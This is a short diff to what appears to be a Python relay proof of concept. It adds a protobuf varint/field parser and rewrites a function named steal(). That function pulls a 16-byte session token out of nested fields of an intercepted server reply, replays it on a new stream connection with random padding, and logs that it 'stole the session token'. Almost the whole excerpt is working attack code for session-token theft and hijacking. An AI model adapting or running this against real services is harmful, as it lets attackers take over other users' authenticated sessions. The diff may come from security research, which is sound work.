@@ -79,9 +79,25 @@ def pump(a, b, out, first_frame_hook):
                 first_frame_hook(buf[4:4 + int.from_bytes(buf[:4], "big")])
                 hooked = True
         b.sendall(d)
+def fields(msg):   # (number, value) of a protobuf message's fields
+    i = 0
+    def varint():
+        nonlocal i
+        v = shift = 0
+        while True:
+            b = msg[i]; i += 1; v |= (b & 0x7f) << shift; shift += 7
+            if b < 0x80: return v
+    while i < len(msg):
+        key = varint(); num, wt = key >> 3, key & 7
+        if wt == 0: yield num, varint()
+        elif wt == 2:
+            n = varint(); yield num, msg[i:i + n]; i += n
+        else: raise ValueError("wire type %d" % wt)
 def steal(reply):
-    assert reply[-18:-16] == b"\x6a\x10", "no session token at the end of the reply"
-    token = reply[-16:]
+    # RemusMsg.hello_reply (2) -> HelloReply.hello (3) -> Hello.session (13)
+    hr = dict(fields(reply))[2]
+    token = dict(fields(dict(fields(hr))[3]))[13]
+    assert len(token) == 16, "no session token in the reply"
     s = socket.create_connection(("127.0.0.1", tport)); keep.append(s)
     s.sendall(token + (100).to_bytes(4, "big") + os.urandom(100))
     print("relay: stole the session token, stream connection opened first", flush=True)
